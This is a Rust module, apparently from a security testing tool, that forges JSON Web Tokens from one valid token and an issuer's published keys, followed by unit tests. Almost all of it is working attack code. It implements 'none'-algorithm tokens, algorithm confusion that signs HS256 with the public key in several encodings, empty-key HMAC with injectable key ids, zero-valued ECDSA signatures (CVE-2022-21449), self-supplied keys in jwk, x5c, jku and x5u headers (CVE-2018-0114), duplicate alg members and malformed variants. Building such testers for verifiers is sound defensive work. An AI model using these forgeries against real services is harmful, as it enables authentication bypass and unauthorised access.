//! Forged JWTs: what somebody makes who has one good token and what its issuer publishes, and no key of the issuer's.

use aws_lc_rs::hmac;
use aws_lc_rs::signature::{Ed25519KeyPair, KeyPair as _};
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Map, Value, json};

use crate::key::used_once;

/// What is made of the good token.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
#[non_exhaustive]
pub enum Forgery {
    /// `alg` is this, and there is no signature.
    Unsigned(&'static str),
    /// HS256, keyed with what everybody can read.
    Hmac(PublicForm),
    /// HS256 with an empty key, and a key id that is to be looked up: a path, a query, an address.
    EmptyKey(&'static str),
    /// Its own header, under a signature that is none.
    Signature(Signature),
    /// Signed by another key, which the header brings along or says where to get, in this member.
    OwnKey(&'static str),
    /// Signed by another key, and this for its id.
    KeyId(&'static str),
    /// Signed by another key, under an id that nobody has.
    UnknownKeyId,
    /// The member `alg` twice, the first time `none`.
    TwoAlgorithms,
    /// A critical extension that nobody knows (RFC 7515 §4.1.11).
    Critical,
    /// Five parts, as an encrypted one.
    FiveParts,
    /// Something behind its end.
    Trailing,
    /// Padding, which base64url of JWS has not.
    Padded,
}

/// How a public key is taken for a secret.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PublicForm {
    /// As JSON.
    Jwk,
    /// The whole set, as it is published.
    KeySet,
    /// The bytes of its number or point.
    Bytes,
    /// These as text.
    Base64,
    /// As SubjectPublicKeyInfo.
    Der,
    /// The same as text, without the last line break.
    Pem,
    /// The same with it.
    PemLine,
}

/// What stands in a signature's place.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Signature {
    /// r = s = 0 (CVE-2022-21449).
    Zeros,
    /// r = s = the order of P-256, which is 0 once more.
    Order,
    /// Zeros as ASN.1.
    Der,
    /// One byte.
    Short,
}

const P256_ORDER: &str = "_____wAAAAD__________7zm-q2nF56E87nKwvxjJVE";
const P256_SPKI: &str = "MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE";
const ED25519_SPKI: &str = "MCowBQYDK2VwAyEA";

/// `None` where the token is no JWT, or the key has no such form.
pub(crate) fn forged(forgery: Forgery, token: &str, key_set: &str) -> Option<String> {
    let [header, payload, signature] = token.split('.').collect::<Vec<_>>().try_into().ok()?;
    let good: Map<String, Value> =
        serde_json::from_slice(&URL_SAFE_NO_PAD.decode(header).ok()?).ok()?;
    let with = |members: Value| head(&good, &members);
    let unsigned = |header: String| format!("{header}.{payload}");
    Some(match forgery {
        Forgery::Unsigned(alg) => format!("{}.", unsigned(with(json!({ "alg": alg })))),
        Forgery::Hmac(form) => {
            let secret = secret(form, &good, key_set)?;
            hmac_signed(&unsigned(with(json!({ "alg": "HS256" }))), &secret)
        }
        Forgery::EmptyKey(kid) => {
            hmac_signed(&unsigned(with(json!({ "alg": "HS256", "kid": kid }))), &[])
        }
        Forgery::Signature(instead) => {
            format!("{header}.{payload}.{}", URL_SAFE_NO_PAD.encode(instead.bytes()?))
        }
        Forgery::OwnKey(member) => own(&good, payload, |x| brought(member, x))?,
        Forgery::KeyId(kid) => own(&good, payload, |_| json!({ "kid": kid }))?,
        Forgery::UnknownKeyId => own(&good, payload, |_| json!({ "kid": used_once(16) }))?,
        Forgery::TwoAlgorithms => {
            let text =
                Value::Object(good.clone()).to_string().replacen('{', r#"{"alg":"none","#, 1);
            format!("{}.{payload}.{signature}", URL_SAFE_NO_PAD.encode(text))
        }
        Forgery::Critical => {
            let critical = with(json!({ "crit": ["x-admin"], "x-admin": true }));
            format!("{critical}.{payload}.{signature}")
        }
        Forgery::FiveParts => format!("{header}..{payload}.{payload}.{signature}"),
        Forgery::Trailing => format!("{token}.AAAA"),
        Forgery::Padded => format!("{token}="),
    })
}

/// The good header with other members, as a token has it.
fn head(good: &Map<String, Value>, members: &Value) -> String {
    let mut header = good.clone();
    header.extend(members.as_object().cloned().unwrap_or_default());
    URL_SAFE_NO_PAD.encode(Value::Object(header).to_string())
}

fn hmac_signed(input: &str, secret: &[u8]) -> String {
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, secret), input.as_bytes());
    format!("{input}.{}", URL_SAFE_NO_PAD.encode(tag))
}

/// Signed by a key that was made for it; `members` of its public half go into the header.
fn own(
    good: &Map<String, Value>,
    payload: &str,
    members: impl Fn(&str) -> Value,
) -> Option<String> {
    let pair = Ed25519KeyPair::generate().ok()?;
    let mut members = members(&URL_SAFE_NO_PAD.encode(pair.public_key()));
    members.as_object_mut()?.insert("alg".to_owned(), json!("EdDSA"));
    let input = format!("{}.{payload}", head(good, &members));
    let signature = pair.sign(input.as_bytes());
    Some(format!("{input}.{}", URL_SAFE_NO_PAD.encode(signature)))
}

/// CVE-2018-0114 and its kin: a header that brings its key.
fn brought(member: &str, x: &str) -> Value {
    match member {
        "jwk" => json!({ "jwk": { "kty": "OKP", "crv": "Ed25519", "x": x } }),
        "x5c" => json!({ "x5c": [STANDARD.encode(x)] }),
        address => json!({ address: "http://127.0.0.1:9/keys.json" }),
    }
}

/// The key that the good token names, taken for a secret.
fn secret(form: PublicForm, good: &Map<String, Value>, key_set: &str) -> Option<Vec<u8>> {
    let set: Value = serde_json::from_str(key_set).ok()?;
    let keys = set.get("keys")?.as_array()?;
    let named = keys.iter().find(|key| key.get("kid") == good.get("kid"));
    let key = named.or_else(|| keys.first())?;
    let text = |member: &str| key.get(member).and_then(Value::as_str);
    let number = text("n").or_else(|| text("x"))?;
    Some(match form {
        PublicForm::Jwk => key.to_string().into_bytes(),
        PublicForm::KeySet => key_set.as_bytes().to_vec(),
        PublicForm::Bytes => point(number, text("y"))?,
        PublicForm::Base64 => number.as_bytes().to_vec(),
        PublicForm::Der => der(text("crv")?, number, text("y"))?,
        PublicForm::Pem | PublicForm::PemLine => {
            let body = STANDARD.encode(der(text("crv")?, number, text("y"))?);
            let line = if form == PublicForm::PemLine { "\n" } else { "" };
            let (first, rest) = body.split_at_checked(64).unwrap_or((&body, ""));
            let lines = if rest.is_empty() { first.to_owned() } else { format!("{first}\n{rest}") };
            format!("-----BEGIN PUBLIC KEY-----\n{lines}\n-----END PUBLIC KEY-----{line}")
                .into_bytes()
        }
    })
}

fn point(x: &str, y: Option<&str>) -> Option<Vec<u8>> {
    let mut bytes = URL_SAFE_NO_PAD.decode(x).ok()?;
    if let Some(y) = y {
        bytes.extend(URL_SAFE_NO_PAD.decode(y).ok()?);
    }
    Some(bytes)
}

/// RFC 5480 §2, RFC 8410 §4.
fn der(curve: &str, x: &str, y: Option<&str>) -> Option<Vec<u8>> {
    let prefix = match curve {
        "P-256" => P256_SPKI,
        "Ed25519" => ED25519_SPKI,
        _ => return None,
    };
    let mut bytes = STANDARD.decode(prefix).ok()?;
    bytes.extend(point(x, y)?);
    Some(bytes)
}

impl Signature {
    fn bytes(self) -> Option<Vec<u8>> {
        Some(match self {
            Self::Zeros => vec![0; 64],
            Self::Order => URL_SAFE_NO_PAD.decode(P256_ORDER).ok()?.repeat(2),
            Self::Der => vec![0x30, 0x06, 0x02, 0x01, 0x00, 0x02, 0x01, 0x00],
            Self::Short => vec![0],
        })
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used, clippy::indexing_slicing, reason = "tests")]
    use super::*;

    const KEYS: &str = r#"{"keys":[{"kty":"EC","crv":"P-256","kid":"a","x":"f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU","y":"x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0"}]}"#;

    fn token() -> String {
        let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"ES256","kid":"a","typ":"at+jwt"}"#);
        format!("{header}.{}.c2ln", URL_SAFE_NO_PAD.encode("{}"))
    }

    fn header(token: &str) -> Value {
        let part = URL_SAFE_NO_PAD.decode(token.split('.').next().unwrap()).unwrap();
        serde_json::from_slice(&part).unwrap()
    }

    #[test]
    fn x01_a_public_key_becomes_a_secret_in_every_form() {
        let forms = [
            PublicForm::Jwk,
            PublicForm::KeySet,
            PublicForm::Bytes,
            PublicForm::Base64,
            PublicForm::Der,
            PublicForm::Pem,
            PublicForm::PemLine,
        ];
        let all: Vec<_> = forms
            .iter()
            .map(|form| forged(Forgery::Hmac(*form), &token(), KEYS).unwrap())
            .collect();
        let distinct: std::collections::BTreeSet<_> = all.iter().collect();
        assert_eq!(distinct.len(), forms.len());
        assert_eq!(header(&all[0])["alg"], "HS256");
        // RFC 5480: the prefix and the point are 91 bytes.
        let good = header(&token()).as_object().cloned().unwrap();
        assert_eq!(secret(PublicForm::Der, &good, KEYS).unwrap().len(), 91);
    }

    #[test]
    fn x04_another_key_comes_along() {
        for member in ["jwk", "jku", "x5u", "x5c"] {
            let forged = forged(Forgery::OwnKey(member), &token(), KEYS).unwrap();
            assert!(header(&forged).get(member).is_some(), "{member}");
            assert_eq!(header(&forged)["alg"], "EdDSA");
        }
    }

    #[test]
    fn x03_the_signatures_are_those_of_the_attack() {
        assert_eq!(Signature::Order.bytes().unwrap().len(), 64);
        assert!(Signature::Order.bytes().unwrap().starts_with(&[0xff; 4]));
    }

    #[test]
    fn what_is_no_jwt_is_not_forged() {
        assert_eq!(forged(Forgery::Trailing, "v4.public.a.b", KEYS), None);
        assert_eq!(forged(Forgery::Trailing, "opaque", KEYS), None);
    }
}
